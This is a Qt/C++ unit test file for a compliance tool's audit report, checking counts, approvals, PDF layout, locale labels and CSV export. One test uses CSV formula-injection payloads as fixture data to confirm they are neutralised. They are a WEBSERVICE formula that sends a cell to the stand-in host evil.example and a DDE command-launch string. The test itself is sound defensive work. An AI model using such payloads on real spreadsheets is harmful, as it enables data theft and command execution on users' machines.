// The audit report of a search: counts, template versions with approvals, findings, as PDF
// and CSV.
#include "compliance/auditreport.h"
#include "compliancefixture.h"
#include "render/htmlpdf.h"

#include <QAbstractTextDocumentLayout>
#include <QPdfDocument>
#include <QTextDocument>
#include <QTextFrame>
#include <QTextTable>

using namespace proofdesk;

class TestAuditReport : public QObject
{
    Q_OBJECT

private slots:
    void reportCountsTemplatesAndFindingsOfASearch();
    void csvCellsFromHostileValuesAreNeverFormulas();
    void tablesFillThePrintableWidth();
    void theReportIsReadInTheReadersWords();
};

namespace {

// The cells of RFC 4180 text as a spreadsheet reads them (quotes removed, "" as ").
QStringList csvCells(const QString &text)
{
    QStringList cells;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        const QChar next = i + 1 < text.size() ? text.at(i + 1) : QChar();
        if (quoted) {
            if (c != QLatin1Char('"'))
                cell += c;
            else if (next == QLatin1Char('"'))
                cell += text.at(++i);
            else
                quoted = false;
        } else if (c == QLatin1Char('"') && cell.isEmpty()) {
            quoted = true;
        } else if (c == QLatin1Char(',') || (c == QLatin1Char('\r') && next == QLatin1Char('\n'))) {
            cells << cell;
            cell.clear();
            if (c == QLatin1Char('\r'))
                ++i;
        } else {
            cell += c;
        }
    }
    return cells;
}

} // namespace

void TestAuditReport::reportCountsTemplatesAndFindingsOfASearch()
{
    ComplianceFixture f;
    const QJsonObject v2{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")},
                                                                  {QStringLiteral("version"), QStringLiteral("2")}}},
                         {QStringLiteral("campaign"), QStringLiteral("FEES-2026")}};
    f.add(QStringLiteral("C-1"), QStringLiteral("2026-02-01T00:00:00Z"), v2);
    f.add(QStringLiteral("C-2"), QStringLiteral("2026-02-01T00:00:00Z"),
          QJsonObject{{QStringLiteral("campaign"), QStringLiteral("FEES-2026")}});
    f.add(QStringLiteral("C-3"), QStringLiteral("2026-02-01T00:00:00Z"));
    f.event(QStringLiteral("C-2"), "delivered", "2026-02-01T01:00:00Z");
    f.import();
    compliance::AuditReport report = compliance::AuditReport::build(f.writer, QStringLiteral("campaign:FEES-2026"));
    QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
    QCOMPARE(report.total, 2);
    QCOMPARE(report.byStatus,
             (QList<QPair<QString, qint64>>{{QStringLiteral("delivered"), 1}, {QStringLiteral("none"), 1}}));
    QCOMPARE(report.templates.size(), 2);
    QCOMPARE(report.templates.at(0).templateId, QStringLiteral("TPL-ANY"));
    QCOMPARE(report.templates.at(0).approvals.size(), 1);
    QCOMPARE(report.templates.at(0).approvals.at(0).step, QStringLiteral("legal"));
    QCOMPARE(report.templates.at(0).approvals.at(0).by, QStringLiteral("c"));
    QCOMPARE(report.templates.at(0).approvals.at(0).decision, QStringLiteral("approved"));
    QVERIFY(report.csv().contains("legal by c on 2000-01-01: approved"));
    QVERIFY(report.html().contains(QStringLiteral("legal by c on 2000-01-01: Approved")));
    QVERIFY(report.templates.at(1).approvals.isEmpty()); // TPL-OK v2 has none
    QCOMPARE(report.findings.findings.size(), 1);
    QCOMPARE(report.findings.findings.first().commId, QStringLiteral("C-1"));

    const QByteArray csv = report.csv();
    QVERIFY(csv.startsWith("section,name,count,detail\r\n"));
    QVERIFY(csv.contains("status,delivered,1,\r\n"));
    QVERIFY(csv.contains("template_version,TPL-OK v2,1,draft; no approvals\r\n"));
    QVERIFY(csv.contains("finding:unapproved_template,C-1,1,"));

    QTemporaryDir dir;
    report.writePdf(dir.filePath(QStringLiteral("report.pdf")));
    QPdfDocument pdf;
    QCOMPARE(pdf.load(dir.filePath(QStringLiteral("report.pdf"))), QPdfDocument::Error::None);
    QString text;
    for (int p = 0; p < pdf.pageCount(); ++p)
        text += pdf.getAllText(p).text();
    QVERIFY(text.contains(QStringLiteral("Audit report")));
    QVERIFY(text.contains(QStringLiteral("TPL-OK")));
    QVERIFY(text.contains(QStringLiteral("C-1")));
}

void TestAuditReport::csvCellsFromHostileValuesAreNeverFormulas()
{
    // A communication id and a template id are free text in a drop; a search may start with
    // "-" (negation). A spreadsheet opening the CSV must show them, never run them.
    const QString link =
        QStringLiteral("=WEBSERVICE(\"evil.example?q=\"&A1)"); // no "/": the id names a file in the drop
    const QString sum = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    ComplianceFixture f;
    f.add(link, QStringLiteral("2026-02-01T00:00:00Z"),
          QJsonObject{{QStringLiteral("template"),
                       QJsonObject{{QStringLiteral("id"), sum}, {QStringLiteral("version"), QStringLiteral("1")}}}});
    f.import();
    const compliance::AuditReport report = compliance::AuditReport::build(f.writer, QStringLiteral("-status:bounced"));
    QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
    QCOMPARE(report.findings.findings.size(), 1); // the unknown template version, on the hostile id

    const QStringList cells = csvCells(QString::fromUtf8(report.csv()));
    for (const QString &cell : cells)
        QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(cell));
    QVERIFY(cells.contains(QLatin1Char('\'') + link));
    QVERIFY(cells.contains(QStringLiteral("'") + sum + QStringLiteral(" v1")));
    QVERIFY(cells.contains(QStringLiteral("'-status:bounced")));
}

// The report's tables as the PDF lays them out: each as wide as the paper between its margins
// (it was half of it, and the long approval and finding columns ran to twice the pages).
void TestAuditReport::tablesFillThePrintableWidth()
{
    ComplianceFixture f;
    f.add(QStringLiteral("C-1"), QStringLiteral("2026-02-01T00:00:00Z"),
          QJsonObject{{QStringLiteral("template"), QJsonObject{{QStringLiteral("id"), QStringLiteral("TPL-OK")},
                                                               {QStringLiteral("version"), QStringLiteral("2")}}}});
    f.add(QStringLiteral("C-2"), QStringLiteral("2026-02-01T00:00:00Z"));
    f.import();
    const compliance::AuditReport report = compliance::AuditReport::build(f.writer, QString());
    QVERIFY2(report.error.isEmpty(), qPrintable(report.error));
    QTextDocument doc;
    render::layOutForPdf(doc, report.html());
    const qreal printable = doc.pageSize().width();
    QVERIFY(printable > 0);
    int tables = 0;
    for (QTextFrame *frame : doc.rootFrame()->childFrames()) {
        if (!qobject_cast<QTextTable *>(frame))
            continue;
        ++tables;
        const qreal width = doc.documentLayout()->frameBoundingRect(frame).width();
        QVERIFY2(width >= 0.9 * printable && width <= printable + 1,
                 qPrintable(QStringLiteral("table %1: %2 of %3").arg(tables).arg(width).arg(printable)));
    }
    QCOMPARE(tables, 4); // status, channel, template versions, findings

    // The PDF has the pages of that layout, on A4.
    QTemporaryDir dir;
    report.writePdf(dir.filePath(QStringLiteral("report.pdf")));
    QPdfDocument pdf;
    QCOMPARE(pdf.load(dir.filePath(QStringLiteral("report.pdf"))), QPdfDocument::Error::None);
    QCOMPARE(pdf.pageCount(), doc.pageCount());
    QCOMPARE(qRound(pdf.pagePointSize(0).width()), 595);
    QVERIFY(pdf.getAllText(pdf.pageCount() - 1).text().contains(QString::number(pdf.pageCount()))); // its number
}

// #64 item 6: the German report printed codes under German headings (delivered, email,
// superseded, approved) and "2000 Kommunikationen". The report shows labels and groups digits
// as the reader's locale does; its CSV keeps codes and plain numbers.
void TestAuditReport::theReportIsReadInTheReadersWords()
{
    const QLocale before;
    QLocale::setDefault(QLocale(QLocale::German, QLocale::Germany));
    compliance::AuditReport r;
    r.total = 2000;
    r.byStatus = {{QStringLiteral("delivered"), 1500}, {QStringLiteral("bounced"), 500}};
    r.byChannel = {{QStringLiteral("email"), 2000}};
    r.templates = {{QStringLiteral("TPL-1"),
                    QStringLiteral("2"),
                    QStringLiteral("Fee notice"),
                    QStringLiteral("superseded"),
                    2000,
                    {{QStringLiteral("compliance sign-off"), QStringLiteral("a.romero"), 0, QStringLiteral("approved"),
                      QString()}}}};
    const QString html = r.html();
    QLocale::setDefault(before);
    for (const QString &shown : {QStringLiteral("2.000"), QStringLiteral("1.500"), QStringLiteral("Delivered"),
                                 QStringLiteral("Bounced"), QStringLiteral("Email"), QStringLiteral("Superseded"),
                                 QStringLiteral("compliance sign-off by a.romero on 1970-01-01: Approved")})
        QVERIFY2(html.contains(shown), qPrintable(shown));
    for (const QString &code : {QStringLiteral(">delivered<"), QStringLiteral(">email<"),
                                QStringLiteral(">superseded<"), QStringLiteral(": approved")})
        QVERIFY2(!html.contains(code), qPrintable(code));
    const QString csv = QString::fromUtf8(r.csv());
    QVERIFY2(csv.contains(QStringLiteral("status,delivered,1500")), qPrintable(csv));
    QVERIFY2(csv.contains(QStringLiteral(": approved")), qPrintable(csv));
}

QTEST_MAIN(TestAuditReport)
#include "tst_auditreport.moc"
